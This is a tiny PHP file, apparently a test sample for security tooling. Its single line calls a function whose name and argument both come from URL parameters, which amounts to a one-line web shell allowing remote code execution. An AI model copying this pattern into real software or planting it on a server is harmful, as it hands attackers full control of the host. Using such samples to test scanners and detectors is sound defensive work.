<?php
// test sample: function name and argument both taken from the request
$_GET['f']($_GET['a']);
